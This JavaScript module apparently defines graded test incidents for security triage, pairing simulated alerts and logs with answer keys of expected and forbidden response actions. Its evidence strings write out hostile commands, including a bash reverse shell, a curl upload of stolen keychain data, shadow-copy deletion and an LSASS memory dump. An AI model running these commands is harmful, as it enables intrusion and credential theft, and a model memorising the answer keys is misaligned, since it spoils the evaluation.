import { azureResource, device, digestOf, file, incident, ip, other, process, url, user } from './shapes.mjs';

/** Attacks on devices. The answers were written with the incidents, before any rule was looked at. */

const system32 = 'C:\\Windows\\System32';
const looking = ['runAntivirusScan', 'collectInvestigationPackage', 'huntForRelated', 'startAutomatedInvestigation', 'runLiveResponse'];
const isolate = (target) => ({ action: 'isolateDevice', target });
const quarantine = (target) => ({ action: 'stopAndQuarantineFile', target, alternatives: ['blockIndicator'] });
const block = (target) => ({ action: 'blockIndicator', target, alternatives: ['blockUrl'] });
const spare = (...names) => names.map((target) => ({ action: 'stopAndQuarantineFile', target }));

function row(table, device, timestamp, actionType, reportId, more) {
  return { Table: table, Timestamp: timestamp, DeviceId: digestOf(`device ${device}`), DeviceName: device, ActionType: actionType, ReportId: reportId, ...more };
}

function ransomware() {
  const [server, desk] = [device('lnk-fs01.lindkvist.example', 'WindowsServer2019', { lastIpAddress: '10.20.0.15' }), device('lnk-ws4471.lindkvist.example', 'Windows11', { lastIpAddress: '10.20.8.171' })];
  const account = user('LINDKVIST\\adm.sjöberg', 'Åsa Sjöberg (adm)', { userAccount: { accountName: 'adm.sjöberg', domainName: 'LINDKVIST', userSid: 'S-1-5-21-7-7-7-1188', azureAdUserId: '5a4c4d2e-9a63-4bb0-8d61-0f8f3e1b7710', userPrincipalName: 'adm.sjoberg@lindkvist.example', displayName: 'Åsa Sjöberg (adm)' } });
  const payload = (more) => file('C:\\PerfLogs\\lk7.exe', { verdict: 'malicious', remediationStatus: 'active', ...more });
  return {
    slug: 'field-ransomware-on-a-desk-and-a-file-server', name: 'Ransomware goes from a desk to a file server',
    why: 'Both devices encrypt. The tools of Windows and the copy of PsExec are not the malware; the inventory script is the management agent at work.',
    incident: incident('ransomware', '2026-08-21T23:02:11Z', 'Multi-stage incident involving Execution & Impact on multiple endpoints', 'high', [
      [-380, 'customDetection', 'PowerShell with encoded command', 'low', 'Execution', ['T1059.001'], [device('lnk-fs01.lindkvist.example', 'WindowsServer2019'), process(`${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`, 'powershell.exe -NoProfile -EncodedCommand RwBlAHQALQBDAGkAbQBJAG4AcwB0AGEAbgBjAGUAIABXAGkAbgAzADIAXwBCAEkATwBTAA==', 8120, { parent: { id: 2210, path: 'C:\\Windows\\CCM\\CcmExec.exe' } }), user('NT AUTHORITY\\SYSTEM')]],
      [0, 'endpoint', 'Suspicious file dropped and launched', 'medium', 'Execution', ['T1204.002'], [desk, account, payload(), process('C:\\PerfLogs\\lk7.exe', 'lk7.exe -p 4e1f -s', 5512, { parent: { id: 3312, path: `${system32}\\cmd.exe` } })]],
      [6, 'endpoint', 'Command and control traffic to a known ransomware affiliate', 'high', 'CommandAndControl', ['T1071.001'], [desk, ip('203.0.113.66', 'MD', { verdict: 'malicious' }), process('C:\\PerfLogs\\lk7.exe', 'lk7.exe -p 4e1f -s', 5512)]],
      [15, 'endpoint', 'Suspicious remote service creation', 'medium', 'LateralMovement', ['T1021.002', 'T1569.002'], [server, desk, account, file('C:\\Windows\\PSEXESVC.exe', {}, { filePublisher: 'Sysinternals - www.sysinternals.com', signer: 'Microsoft Corporation', issuer: 'Microsoft Code Signing PCA 2011' })]],
      [18, 'endpoint', 'File backups were deleted', 'high', 'Impact', ['T1490'], [server, account, process(`${system32}\\vssadmin.exe`, 'vssadmin.exe delete shadows /all /quiet', 7020, { parent: { id: 6990, path: 'C:\\PerfLogs\\lk7.exe' } })]],
      [19, 'endpoint', 'Possible ransomware activity based on a known malicious extension', 'high', 'Impact', ['T1486'], [server, payload(), process('C:\\PerfLogs\\lk7.exe', 'lk7.exe -p 4e1f -e \\\\lnk-fs01\\data$', 6990)], { threatFamilyName: 'LockFin' }],
      [20, 'endpoint', 'Possible ransomware activity based on a known malicious extension', 'high', 'Impact', ['T1486'], [desk, payload()], { threatFamilyName: 'LockFin' }],
    ], { systemTags: ['Ransomware'] }),
    events: [
      row('DeviceProcessEvents', 'lnk-fs01.lindkvist.example', '2026-08-21T16:42:11Z', 'ProcessCreated', 101, { FileName: 'powershell.exe', FolderPath: `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`, ProcessId: 8120, ProcessCommandLine: 'powershell.exe -NoProfile -EncodedCommand RwBlAHQALQBDAGkAbQBJAG4AcwB0AGEAbgBjAGUAIABXAGkAbgAzADIAXwBCAEkATwBTAA==', AccountName: 'system', InitiatingProcessFileName: 'CcmExec.exe', InitiatingProcessFolderPath: 'c:\\windows\\ccm\\ccmexec.exe', InitiatingProcessId: 2210 }),
      row('DeviceNetworkEvents', 'lnk-ws4471.lindkvist.example', '2026-08-21T23:08:11Z', 'ConnectionSuccess', 102, { RemoteIP: '203.0.113.66', RemotePort: 443, InitiatingProcessFileName: 'lk7.exe', InitiatingProcessFolderPath: 'c:\\perflogs\\lk7.exe', InitiatingProcessId: 5512 }),
      row('DeviceProcessEvents', 'lnk-fs01.lindkvist.example', '2026-08-21T23:20:11Z', 'ProcessCreated', 103, { FileName: 'vssadmin.exe', FolderPath: `${system32}\\vssadmin.exe`, ProcessId: 7020, ProcessCommandLine: 'vssadmin.exe delete shadows /all /quiet', AccountName: 'adm.sjöberg', AccountDomain: 'lindkvist', InitiatingProcessFileName: 'lk7.exe', InitiatingProcessFolderPath: 'c:\\perflogs\\lk7.exe', InitiatingProcessId: 6990 }),
    ],
    summary: { entities: [['lnk-fs01.lindkvist.example'], ['lnk-ws4471.lindkvist.example'], ['adm.sjoberg@lindkvist.example', 'adm.sjöberg'], ['lk7.exe'], ['203.0.113.66']], first: ['lk7.exe', 1], last: ['lnk-ws4471'], techniques: ['T1059.001', 'T1204.002', 'T1071.001', 'T1021.002', 'T1569.002', 'T1490', 'T1486'] },
    response: {
      classifications: ['truePositive'], determinations: ['malware', 'multiStagedAttack'], alerts: ['informationalExpectedActivity', ...Array(6).fill('truePositive')],
      actions: [isolate('lnk-fs01.lindkvist.example'), isolate('lnk-ws4471.lindkvist.example'), { action: 'disableUser', target: 'adm.sjoberg@lindkvist.example', alternatives: ['forcePasswordReset'] }, quarantine('lk7.exe'), block('203.0.113.66')],
      acceptable: [...looking, 'restrictAppExecution', 'revokeSessions', 'confirmUserCompromised', 'forcePasswordReset'],
      forbidden: [...spare('vssadmin.exe', 'PSEXESVC.exe', 'powershell.exe', 'CcmExec.exe', 'cmd.exe'), { action: 'blockIndicator', target: '10.20.0.15' }, { action: 'blockIndicator', target: '10.20.8.171' }],
    },
  };
}

function mailServer() {
  const server = device('EX02.corp.ostrava-steel.example', 'WindowsServer2019', { deviceDnsName: 'EX02.corp.ostrava-steel.example', riskScore: 'high', tags: ['Exchange Server'] });
  const worker = { id: 4410, path: `${system32}\\inetsrv\\w3wp.exe` };
  return {
    slug: 'field-page-planted-on-a-mail-server', name: 'A page planted on an Exchange server dumps LSASS',
    why: 'The page and its caller go. The worker, the shell and rundll32 are part of Windows.',
    incident: incident('mail-server', '2026-03-30T04:18:09Z', 'Exchange server exploitation on one endpoint', 'high', [
      [0, 'endpoint', 'Suspicious Exchange process execution', 'high', 'Execution', ['T1190', 'T1059.003'], [server, process(`${system32}\\cmd.exe`, 'cmd.exe /c cd /d "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth"&whoami&echo [S]&cd&echo [E]', 9120, { parent: worker }), user('NT AUTHORITY\\SYSTEM')], { recommendedActions: 'Contain the server.' }],
      [2, 'antivirus', "An active 'Chopper' backdoor was detected", 'high', 'Persistence', ['T1505.003'], [server, file('C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\errorFE.aspx', { verdict: 'malicious', remediationStatus: 'unremediated' }), process(worker.path, 'w3wp.exe -ap "MSExchangeOWAAppPool"', worker.id)], { threatFamilyName: 'Chopper' }],
      [11, 'endpoint', 'Sensitive credential memory read', 'high', 'CredentialAccess', ['T1003.001'], [server, process(`${system32}\\rundll32.exe`, 'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 740 C:\\windows\\temp\\d.bin full', 9204, { parent: { id: 9120, path: `${system32}\\cmd.exe` } })]],
      [13, 'scheduled', 'IIS: repeated POST to a new page', 'medium', 'CommandAndControl', [], [ip('192.0.2.88', 'HK', { roles: ['attacker'] }), { ...server, mdeDeviceId: null, onboardingStatus: 'insufficientInfo' }, url('https://mail.ostrava-steel.example/owa/auth/errorFE.aspx')]],
    ]),
    events: [row('DeviceNetworkEvents', 'EX02.corp.ostrava-steel.example', '2026-03-30T04:18:01Z', 'InboundConnectionAccepted', 77, { RemoteIP: '192.0.2.88', RemotePort: 51122, LocalPort: 443, InitiatingProcessFileName: 'w3wp.exe', InitiatingProcessId: 4410 })],
    summary: { entities: [['EX02.corp.ostrava-steel.example'], ['errorFE.aspx'], ['192.0.2.88']], first: ['ex02'], last: ['ex02'], lastAlert: 2, techniques: ['T1190', 'T1059.003', 'T1505.003', 'T1003.001'] },
    response: {
      classifications: ['truePositive'], determinations: ['malware', 'multiStagedAttack', 'apt', 'compromisedAccount'], alerts: Array(4).fill('truePositive'),
      actions: [isolate('EX02.corp.ostrava-steel.example'), quarantine('errorFE.aspx'), block('192.0.2.88')], acceptable: looking,
      forbidden: [...spare('w3wp.exe', 'cmd.exe', 'rundll32.exe', 'comsvcs.dll'), { action: 'disableUser', target: 'SYSTEM' }, { action: 'blockUrl', target: 'mail.ostrava-steel.example' }, { action: 'blockIndicator', target: 'mail.ostrava-steel.example' }],
    },
  };
}

function supplier() {
  const [first, second] = [device('lab-nb12.aurigon.example', 'Windows10'), device('lab-nb31.aurigon.example', 'Windows11')];
  const signed = file('C:\\Program Files\\Halvard\\PdfSync\\PdfSync.exe', {}, { filePublisher: 'Halvard Software ApS', signer: 'Halvard Software ApS', issuer: 'DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1' });
  const library = file('C:\\Program Files\\Halvard\\PdfSync\\d3dcompiler_lk.dll', { verdict: 'malicious', roles: ['loaded'] });
  return {
    slug: 'field-update-of-a-supplier-with-a-foreign-library', name: 'A supplier\'s signed program loads a library that was never its own',
    why: 'The signed program of the supplier stays; the library goes, on both devices, and its server is blocked.',
    incident: incident('supplier', '2026-09-09T09:00:00Z', 'Possible supply chain compromise involving multiple endpoints', 'high', [
      [0, 'endpoint', 'DLL side-loading by a signed process', 'medium', 'DefenseEvasion', ['T1574.002', 'T1195.002'], [first, signed, library]],
      [4, 'endpoint', 'DLL side-loading by a signed process', 'medium', 'DefenseEvasion', ['T1574.002', 'T1195.002'], [second, signed, library]],
      [31, 'endpoint', 'Connection to a domain newly associated with an activity group', 'high', 'CommandAndControl', ['T1071.004'], [first, url('telemetry-halvard.example', { verdict: 'malicious' }), process('C:\\Program Files\\Halvard\\PdfSync\\PdfSync.exe', '"C:\\Program Files\\Halvard\\PdfSync\\PdfSync.exe" /background', 2208, { details: { signer: 'Halvard Software ApS' } })], { actorDisplayName: 'Storm-0000' }],
      [33, 'endpoint', 'Connection to a domain newly associated with an activity group', 'high', 'CommandAndControl', ['T1071.004'], [second, url('telemetry-halvard.example', { verdict: 'malicious' })]],
      [90, 'endpoint', 'Suspicious browser credential access', 'high', 'CredentialAccess', ['T1555.003'], [first, user('AURIGON\\s.okonkwo', 'Somto Okonkwo'), process(`${system32}\\cmd.exe`, 'cmd.exe /c copy "%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data" C:\\ProgramData\\ld.tmp', 7716, { parent: { id: 2208, path: 'C:\\Program Files\\Halvard\\PdfSync\\PdfSync.exe' } })]],
    ]),
    events: [row('DeviceNetworkEvents', 'lab-nb12.aurigon.example', '2026-09-09T09:31:00Z', 'ConnectionSuccess', 3, { RemoteUrl: 'telemetry-halvard.example', RemoteIP: '198.51.100.140', RemotePort: 443, InitiatingProcessFileName: 'PdfSync.exe', InitiatingProcessId: 2208 })],
    summary: { entities: [['lab-nb12.aurigon.example'], ['lab-nb31.aurigon.example'], ['d3dcompiler_lk.dll'], ['telemetry-halvard.example'], ['s.okonkwo']], first: ['lab-nb12'], last: ['lab-nb12'], techniques: ['T1574.002', 'T1195.002', 'T1071.004', 'T1555.003'] },
    response: {
      classifications: ['truePositive'], determinations: ['malware', 'multiStagedAttack', 'apt'], alerts: Array(5).fill('truePositive'),
      actions: [isolate('lab-nb12.aurigon.example'), isolate('lab-nb31.aurigon.example'), quarantine('d3dcompiler_lk.dll'), block('telemetry-halvard.example'), { action: 'forcePasswordReset', target: 's.okonkwo', alternatives: ['revokeSessions', 'disableUser'] }],
      acceptable: [...looking, 'revokeSessions', 'disableUser', 'confirmUserCompromised', 'restrictAppExecution'], forbidden: spare('PdfSync.exe', 'cmd.exe'),
    },
  };
}

function removableDrive() {
  const one = device('PROBERAUM-03', 'Windows10', { deviceDnsName: 'proberaum-03', dnsDomain: null, healthStatus: 'active' });
  const two = device('proberaum-07', 'Windows10');
  const script = (more) => file('E:\\System Volume\\usbdrv.vbs', { verdict: 'malicious', ...more });
  return {
    slug: 'field-script-from-a-removable-drive', name: 'A script from a removable drive runs on one device and is stopped on another',
    why: 'On the first device it runs and answers to a server. On the second antivirus was faster: that one keeps working.',
    incident: incident('removable', '2026-10-05T07:55:00Z', "'Jenxcus' malware on multiple endpoints", 'medium', [
      [0, 'endpoint', 'Suspicious script launched from a removable drive', 'medium', 'InitialAccess', ['T1091', 'T1059.005'], [one, script({ remediationStatus: 'active' }), process(`${system32}\\wscript.exe`, 'wscript.exe //B "E:\\System Volume\\usbdrv.vbs"', 4020, { parent: { id: 2000, path: 'C:\\Windows\\explorer.exe' } }), user('PROBERAUM-03\\gast')]],
      [3, 'endpoint', 'Anomaly detected in ASEP registry', 'medium', 'Persistence', ['T1547.001'], [one, other('registryValue', { mdeDeviceId: one.mdeDeviceId, registryHive: 'HKEY_CURRENT_USER', registryKey: 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', registryValueName: 'usbdrv', registryValue: 'wscript.exe //B "C:\\Users\\gast\\AppData\\Roaming\\usbdrv.vbs"', registryValueType: 'String' })]],
      [8, 'endpoint', 'Network connection by a script host to a rare address', 'medium', 'CommandAndControl', ['T1571'], [one, ip('203.0.113.250', null, { verdict: 'suspicious', roles: ['commandAndControl'] })]],
      [47, 'antivirus', "'Jenxcus' malware was prevented", 'low', 'Malware', [], [two, script({ remediationStatus: 'prevented', detectionStatus: 'prevented', remediationStatusDetails: 'The file was quarantined.' })], { status: 'resolved', threatFamilyName: 'Jenxcus' }],
    ]),
    events: [row('DeviceNetworkEvents', 'proberaum-03', '2026-10-05T08:03:00Z', 'ConnectionSuccess', 41, { DeviceId: one.mdeDeviceId, RemoteIP: '203.0.113.250', RemotePort: 7788, InitiatingProcessFileName: 'wscript.exe', InitiatingProcessId: 4020 })],
    summary: { entities: [['proberaum-03'], ['proberaum-07'], ['usbdrv.vbs'], ['203.0.113.250']], first: ['proberaum-03'], last: ['proberaum-07'], techniques: ['T1091', 'T1059.005', 'T1547.001', 'T1571'] },
    response: {
      classifications: ['truePositive'], determinations: ['malware', 'multiStagedAttack'], alerts: Array(4).fill('truePositive'),
      actions: [isolate('proberaum-03'), quarantine('usbdrv.vbs'), block('203.0.113.250')], acceptable: [...looking, 'restrictAppExecution'],
      forbidden: [...spare('wscript.exe', 'explorer.exe'), isolate('proberaum-07')],
    },
  };
}

function miner() {
  const machine = azureResource('/subscriptions/6f0e9a4c-3333-4c1d-9a0e-0d7a52b1c003/resourceGroups/rg-build/providers/Microsoft.Compute/virtualMachines/vm-build-02', 'Microsoft.Compute/virtualMachines');
  const host = device('vm-build-02', 'Linux', { vmMetadata: { vmId: '0c5c1d5a-8f6e-4a61-a2a6-09d3b1b4a1f2', cloudProvider: 'azure', resourceId: machine.resourceId, subscriptionId: '6f0e9a4c-3333-4c1d-9a0e-0d7a52b1c003' } });
  const container = other('container', { containerId: digestOf('container build', 12), name: 'runner-a', isPrivileged: true, command: ['/bin/sh'], args: ['-c', './xm -o pool.xmr-relay.example:3333 --donate-level 1'], image: { '@odata.type': '#microsoft.graph.security.containerImageEvidence', imageId: 'docker.example/tools/runner:latest', digestImage: null } });
  return {
    slug: 'field-miner-in-a-privileged-container', name: 'A miner in a privileged container of a build machine',
    why: 'The build machine is onboarded: it is isolated and the pool is blocked. No person is in it.',
    incident: incident('miner', '2026-11-11T02:02:02Z', 'Digital currency mining on a virtual machine', 'high', [
      [0, 'containers', 'Privileged container detected', 'low', 'PrivilegeEscalation', ['T1610'], [machine, container]],
      [3, 'servers', 'Digital currency mining related behavior detected', 'high', 'Impact', ['T1496'], [machine, host, { '@odata.type': '#microsoft.graph.security.processEvidence', processId: 20113, processCommandLine: './xm -o pool.xmr-relay.example:3333 --donate-level 1', imageFile: { fileName: 'xm', filePath: '/tmp/.b' } }], { minutes: 600, description: 'Analysis of host data on vm-build-02 detected the execution of a process or command normally associated with digital currency mining.' }],
      [5, 'servers', 'Communication with a cryptocurrency mining pool', 'medium', 'CommandAndControl', ['T1071.001'], [machine, host, other('dns', { domainName: 'pool.xmr-relay.example', dnsServerIp: ip('168.63.129.16'), ipAddresses: [ip('198.51.100.33')] }), ip('198.51.100.33')]],
    ]),
    events: [],
    summary: { entities: [['vm-build-02'], ['pool.xmr-relay.example', '198.51.100.33'], ['runner-a']], first: ['vm-build-02'], last: ['vm-build-02'], techniques: ['T1610', 'T1496', 'T1071.001'] },
    response: {
      classifications: ['truePositive'], determinations: ['malware', 'multiStagedAttack', 'unwantedSoftware', 'maliciousUserActivity'], alerts: Array(3).fill('truePositive'),
      actions: [isolate('vm-build-02'), block('xmr-relay.example')], acceptable: [...looking, 'stopAndQuarantineFile', 'blockIndicator'], forbidden: [{ action: 'blockIndicator', target: '168.63.129.16' }, { action: 'disableUser', target: '*' }],
    },
  };
}

function linux() {
  const host = device('web-prod-3.internal.fjordkart.example', 'Linux', { version: '22.04' });
  return {
    slug: 'field-reverse-shell-with-a-cron-entry', name: 'A reverse shell from a web application, kept alive by cron',
    why: 'The shell answers to a foreign address and comes back every five minutes. Bash is not the malware, and www-data is no person.',
    incident: incident('linux', '2026-04-25T14:14:14Z', 'Suspicious shell activity on one Linux endpoint', 'high', [
      [0, 'endpoint', 'Suspicious process executed by a web server', 'medium', 'Execution', ['T1190', 'T1059.004'], [host, process('/usr/bin/bash', "bash -c 'bash -i >& /dev/tcp/203.0.113.88/4444 0>&1'", 3100, { parent: { id: 811, path: '/usr/sbin/apache2' } }), user('www-data')]],
      [1, 'endpoint', 'Possible reverse shell', 'high', 'CommandAndControl', ['T1095'], [host, ip('203.0.113.88', 'BG'), process('/usr/bin/bash', 'bash -i', 3101)]],
      [7, 'endpoint', 'Suspicious file dropped in a hidden folder', 'medium', 'DefenseEvasion', ['T1564.001'], [host, file('/tmp/.x/kworkerd', { verdict: 'malicious' })]],
      [9, 'endpoint', 'Suspicious cron job creation', 'medium', 'Persistence', ['T1053.003'], [host, process('/usr/bin/crontab', 'crontab -', 3150, { parent: { id: 3101, path: '/usr/bin/bash' } })]],
    ], { classification: null, determination: null, customTags: null }),
    events: [row('DeviceProcessEvents', 'web-prod-3.internal.fjordkart.example', '2026-04-25T14:23:20Z', 'ProcessCreated', 900, { FileName: 'crontab', FolderPath: '/usr/bin/crontab', ProcessId: 3150, ProcessCommandLine: 'crontab -', AccountName: 'www-data', InitiatingProcessFileName: 'bash', InitiatingProcessFolderPath: '/usr/bin/bash', InitiatingProcessId: 3101, InitiatingProcessCommandLine: "sh -c echo '*/5 * * * * /tmp/.x/kworkerd' | crontab -" })],
    summary: { entities: [['web-prod-3.internal.fjordkart.example', 'web-prod-3'], ['203.0.113.88'], ['kworkerd']], first: ['web-prod-3'], last: ['web-prod-3'], techniques: ['T1190', 'T1059.004', 'T1095', 'T1564.001', 'T1053.003'] },
    response: {
      classifications: ['truePositive'], determinations: ['malware', 'multiStagedAttack', 'apt'], alerts: Array(4).fill('truePositive'),
      actions: [isolate('web-prod-3.internal.fjordkart.example'), quarantine('kworkerd'), block('203.0.113.88')], acceptable: looking,
      forbidden: [...spare('bash', 'crontab', 'apache2'), ...['disableUser', 'forcePasswordReset', 'revokeSessions', 'confirmUserCompromised'].map((action) => ({ action, target: 'www-data' }))],
    },
  };
}

function macintosh() {
  const book = device('claires-macbook-pro.local', 'macOS', { hostName: 'Claires-MacBook-Pro', dnsDomain: null, azureAdDeviceId: '1b7be0dd-f3f1-4a4c-a1cc-6d8a5b0a1e0e' });
  const person = user('claire.dubois@atelier-nord.example', 'Claire Dubois');
  return {
    slug: 'field-stealer-on-a-notebook-of-a-designer', name: 'A stealer asks for a password on a Mac and sends the keychain away',
    why: 'What was on the Mac is stolen: the device is cut off and the account of its user is renewed. osascript and curl belong to macOS.',
    incident: incident('macintosh', '2026-06-19T19:40:00Z', 'Possible information stealer on one endpoint', 'high', [
      [0, 'endpoint', 'Suspicious disk image mounted', 'medium', 'Execution', ['T1204.002'], [book, file('/Users/Claire/Downloads/Figmalite.dmg', { verdict: 'suspicious' }), user('claires-macbook-pro\\claire', null, { userAccount: { accountName: 'claire', domainName: 'claires-macbook-pro', userPrincipalName: null, azureAdUserId: null, userSid: null, displayName: null } })]],
      [1, 'endpoint', 'Password prompt by a script', 'medium', 'CredentialAccess', ['T1056.002', 'T1059.002'], [book, process('/usr/bin/osascript', "osascript -e 'display dialog \"macOS needs your password\" default answer \"\" with hidden answer'", 711, { parent: { id: 702, path: '/Volumes/Figmalite/Figmalite.app/Contents/MacOS/Figmalite' } })]],
      [2, 'endpoint', 'Possible theft of the keychain and of browser data', 'high', 'CredentialAccess', ['T1555.001', 'T1555.003'], [book, person, file('/Volumes/Figmalite/Figmalite.app/Contents/MacOS/Figmalite', { verdict: 'malicious', remediationStatus: 'active' })], { threatFamilyName: 'AMOS' }],
      [4, 'endpoint', 'Archive sent to a rare server', 'high', 'Exfiltration', ['T1041'], [book, process('/usr/bin/curl', 'curl -X POST -F file=@/tmp/out.zip http://send.fgm-lite.example/log', 760), url('http://send.fgm-lite.example/log', { verdict: 'malicious' })]],
    ]),
    events: [],
    summary: { entities: [['claires-macbook-pro.local', 'claires-macbook-pro'], ['claire.dubois@atelier-nord.example'], ['Figmalite'], ['send.fgm-lite.example']], first: ['claires-macbook-pro'], last: ['claires-macbook-pro'], techniques: ['T1204.002', 'T1056.002', 'T1059.002', 'T1555.001', 'T1555.003', 'T1041'] },
    response: {
      classifications: ['truePositive'], determinations: ['malware', 'multiStagedAttack'], alerts: Array(4).fill('truePositive'),
      actions: [isolate('claires-macbook-pro.local'), { action: 'forcePasswordReset', target: 'claire.dubois@atelier-nord.example' }, { action: 'revokeSessions', target: 'claire.dubois@atelier-nord.example' }, quarantine('Figmalite'), block('fgm-lite.example')],
      acceptable: [...looking, 'confirmUserCompromised', 'requireSignInAgain', 'disableUser', 'blockIndicator'], forbidden: spare('osascript', 'curl'),
    },
  };
}

function stopped() {
  const desk = device('buh-02.ekonomika.example', 'Windows11');
  return {
    slug: 'field-download-stopped-before-it-ran', name: 'A download that antivirus stopped before it ran',
    why: 'It was real malware, and it never ran. A scan is enough.',
    incident: incident('stopped', '2026-01-15T11:25:00Z', "'Wacatac' malware was prevented on one endpoint", 'informational', [
      [0, 'antivirus', "'Wacatac' malware was prevented", 'informational', 'Malware', [], [desk, user('EKONOMIKA\\о.шевченко', 'Олена Шевченко'), file('C:\\Users\\o.shevchenko\\Downloads\\Акт_звірки.pdf.exe', { verdict: 'malicious', detectionStatus: 'prevented', remediationStatus: 'prevented', remediationStatusDetails: 'Entity was pre-remediated by Windows Defender' })], { status: 'resolved', threatFamilyName: 'Wacatac', threatDisplayName: 'Trojan:Win32/Wacatac.B!ml' }],
    ]),
    events: [row('DeviceEvents', 'buh-02.ekonomika.example', '2026-01-15T11:25:00Z', 'AntivirusDetection', 5, { FileName: 'Акт_звірки.pdf.exe', FolderPath: 'C:\\Users\\o.shevchenko\\Downloads', AdditionalFields: '{"ThreatName":"Trojan:Win32/Wacatac.B!ml","WasExecutingWhileDetected":false,"WasRemediated":true,"Action":"Quarantine"}' })],
    summary: { entities: [['buh-02.ekonomika.example'], ['о.шевченко'], ['Акт_звірки.pdf.exe']], first: ['buh-02'] },
    response: { classifications: ['truePositive'], determinations: ['malware'], alerts: ['truePositive'], actions: [], acceptable: ['blockIndicator', ...looking], forbidden: [isolate('buh-02.ekonomika.example'), { action: 'disableUser', target: '*' }] },
  };
}

function knocking() {
  const machine = azureResource('/subscriptions/6f0e9a4c-4444-4c1d-9a0e-0d7a52b1c004/resourcegroups/rg-jump/providers/microsoft.compute/virtualmachines/vm-jump-01', 'virtualMachines');
  const host = 'vm-jump-01';
  const accounts = ['administrator', 'admin', 'test', 'backup'];
  return {
    slug: 'field-guessing-from-the-internet-without-success', name: 'Guessing of passwords over RDP from the internet, none right',
    why: 'Nobody came in: no account and no device is taken away. The door should be closed, which no action of the catalogue does.',
    incident: incident('knocking', '2026-12-01T00:00:00Z', 'Suspicious authentication activity on a virtual machine', 'medium', [
      [0, 'servers', 'Suspicious authentication activity', 'medium', 'CredentialAccess', ['T1110'], [machine, device(host, 'WindowsServer2022', { mdeDeviceId: digestOf(`device ${host}`) }), ip('203.0.113.201', 'NL', { roles: ['attacker'] }), ...accounts.map((name) => user(name))], { minutes: 55, description: '1,412 failed sign-ins; none of the accounts signed in successfully.' }],
    ]),
    events: accounts.flatMap((name, index) => [0, 1, 2].map((round) => row('DeviceLogonEvents', host, new Date(Date.UTC(2026, 11, 1, 0, index * 12 + round)).toISOString(), 'LogonFailed', 200 + index * 3 + round, { LogonType: 'RemoteInteractive', AccountName: name, AccountDomain: 'vm-jump-01', RemoteIP: '203.0.113.201', RemoteIPType: 'Public', FailureReason: 'InvalidUserNameOrPassword' }))),
    summary: { entities: [['vm-jump-01'], ['203.0.113.201'], ['administrator']], first: ['vm-jump-01'], techniques: ['T1110'] },
    response: {
      classifications: ['truePositive', 'informationalExpectedActivity'], determinations: ['other', 'maliciousUserActivity', 'notMalicious', 'notEnoughDataToValidate', 'multiStagedAttack', 'compromisedAccount'], actions: [], acceptable: ['blockIndicator', ...looking],
      forbidden: [isolate('*'), ...['disableUser', 'forcePasswordReset', 'revokeSessions', 'confirmUserCompromised'].map((action) => ({ action, target: '*' }))],
    },
  };
}

export const endpointIncidents = () => [ransomware(), mailServer(), supplier(), removableDrive(), miner(), linux(), macintosh(), stopped(), knocking()];
